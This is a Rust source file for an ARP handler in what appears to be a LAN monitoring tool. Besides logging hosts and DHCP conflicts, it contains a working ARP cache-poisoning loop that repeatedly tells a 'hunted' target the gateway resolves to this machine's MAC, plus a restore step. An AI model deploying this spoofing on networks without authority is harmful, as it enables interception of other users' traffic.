//! ARP handler
//!
//! Feeds sender (MAC, IP) pairs into the session table and, while hunting,
//! poisons the target's ARP cache so the gateway's address resolves to our
//! MAC. Address-conflict-detection probes (zero sender IP) are ignored; a
//! client announcing an address different from its pending DHCP offer is
//! logged as a conflict.

use async_trait::async_trait;
use lanhound_core::{Addr, HuntStage, MacAddr, PacketConn, Result};
use lanhound_packet::arp::{self, ArpPacket, OPERATION_REQUEST};
use lanhound_packet::EthernetFrame;
use lanhound_session::{sleep_unless_stopped, Hunter, Session};
use parking_lot::Mutex;
use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tracing::{debug, warn};

/// Interval between poison replies while hunting.
const SPOOF_INTERVAL: Duration = Duration::from_secs(2);

pub struct ArpHandler {
    session: Arc<Session>,
    /// Per-IP stop flags for running spoof loops
    hunted: Mutex<HashMap<Ipv4Addr, Arc<AtomicBool>>>,
}

impl ArpHandler {
    pub fn new(session: Arc<Session>) -> Arc<Self> {
        Arc::new(Self {
            session,
            hunted: Mutex::new(HashMap::new()),
        })
    }

    /// Process a received ARP frame.
    pub fn process_packet(&self, eth: &EthernetFrame) -> Result<()> {
        let frame = ArpPacket::new(eth.payload())?;
        let nic = &self.session.nic_info;

        // our own traffic, including spoof replies
        if frame.sender_mac() == nic.host_addr4.mac {
            return Ok(());
        }
        // ACD probes carry no usable sender address yet
        if frame.is_probe() {
            return Ok(());
        }

        if frame.operation() == OPERATION_REQUEST {
            debug!(
                sender = %frame.sender_ip(),
                target = %frame.target_ip(),
                "arp who-has"
            );
        }

        // a client announcing something other than what DHCP offered it is
        // either misconfigured or racing the capture
        if let Some(offer) = self.session.ip4_offer(frame.sender_mac()) {
            if frame.is_announcement() && frame.sender_ip() != offer {
                warn!(
                    mac = %frame.sender_mac(),
                    announced = %frame.sender_ip(),
                    offered = %offer,
                    "arp announcement conflicts with dhcp offer"
                );
            }
        }

        let (host, created) = self
            .session
            .find_or_create_host(Addr::new(frame.sender_mac(), IpAddr::V4(frame.sender_ip())))?;
        if created {
            debug!(addr = %host.addr, "arp discovered host");
        }
        self.session.notice(&host);
        Ok(())
    }

    /// How many spoof loops are currently running.
    pub fn active_hunts(&self) -> usize {
        self.hunted.lock().len()
    }

    fn spawn_spoof_loop(&self, target: Addr, ip: Ipv4Addr, stop: Arc<AtomicBool>) {
        let conn = self.session.conn();
        let host_mac = self.session.nic_info.host_addr4.mac;
        let router_ip = match self.session.nic_info.router_addr4.ip4() {
            Some(ip) => ip,
            None => return,
        };
        tokio::spawn(async move {
            debug!(%ip, "arp spoof loop started");
            while !stop.load(Ordering::Acquire) {
                // tell the target the gateway lives at our MAC
                let frame = arp::reply_frame(host_mac, router_ip, target.mac, ip);
                if let Err(e) = conn.write_frame(&frame) {
                    debug!(%ip, "arp spoof send failed: {e}");
                }
                sleep_unless_stopped(&stop, SPOOF_INTERVAL).await;
            }
            debug!(%ip, "arp spoof loop ended");
        });
    }

    fn restore_target(&self, target: Addr, ip: Ipv4Addr) {
        let conn = self.session.conn();
        let router = self.session.nic_info.router_addr4;
        let Some(router_ip) = router.ip4() else {
            return;
        };
        // one corrective reply with the real gateway mapping
        let frame = arp::reply_frame(router.mac, router_ip, target.mac, ip);
        if let Err(e) = conn.write_frame(&frame) {
            debug!(%ip, "arp restore send failed: {e}");
        }
    }
}

#[async_trait]
impl Hunter for ArpHandler {
    async fn start_hunt(&self, addr: Addr) -> Result<HuntStage> {
        let IpAddr::V4(ip) = addr.ip else {
            return Ok(HuntStage::NoChange);
        };
        let stop = Arc::new(AtomicBool::new(false));
        {
            let mut hunted = self.hunted.lock();
            if hunted.contains_key(&ip) {
                return Ok(HuntStage::Hunt);
            }
            hunted.insert(ip, stop.clone());
        }
        self.spawn_spoof_loop(addr, ip, stop);
        Ok(HuntStage::Hunt)
    }

    async fn stop_hunt(&self, addr: Addr) -> Result<HuntStage> {
        let IpAddr::V4(ip) = addr.ip else {
            return Ok(HuntStage::NoChange);
        };
        if let Some(stop) = self.hunted.lock().remove(&ip) {
            stop.store(true, Ordering::Release);
            self.restore_target(addr, ip);
        }
        Ok(HuntStage::Normal)
    }

    async fn check_addr(&self, addr: Addr) -> Result<HuntStage> {
        match addr.ip {
            IpAddr::V4(ip) if self.hunted.lock().contains_key(&ip) => Ok(HuntStage::Hunt),
            _ => Ok(HuntStage::Normal),
        }
    }
}
